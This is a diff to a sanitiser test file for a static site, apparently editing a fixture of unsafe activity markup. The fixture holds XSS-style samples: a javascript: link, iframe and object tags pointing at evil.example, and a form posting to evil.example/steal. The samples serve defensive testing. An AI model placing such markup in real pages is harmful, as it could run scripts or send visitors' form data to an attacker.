@@ -14,6 +14,8 @@ ACTIVITY = f"{STATION_DIR}/activities/2026-06-19-anquan.md"
 PAGE = "stations/qingshi/zhangzhuang/activities/2026-06-19-anquan/index.html"
 
 # Line 1 is the opening ---; the first unsafe markup, <script>, is on line 12, column 1.
+# Frames and objects load local paths here: one from another host is refused outright
+# (EXTERNAL_RESOURCE, see test_hostile.py); this file is about what the sanitiser removes.
 UNSAFE_ACTIVITY = """\
 ---
 title: 安全测试活动
@@ -32,11 +34,11 @@ photos: [media/scene-1.jpg]
 
 链接前文字[点这里](javascript:alert(1))链接后文字
 
-<iframe src="https://evil.example/frame"></iframe>
+<iframe src="evil.example/frame"></iframe>
 
 <form action="https://evil.example/steal"><input name="q" value="表单值"></form>
 
-<object data="https://evil.example/x.swf">对象内文字</object>
+<object data="evil.example/x.swf">对象内文字</object>
 
 <style>body{display:none}</style>
 
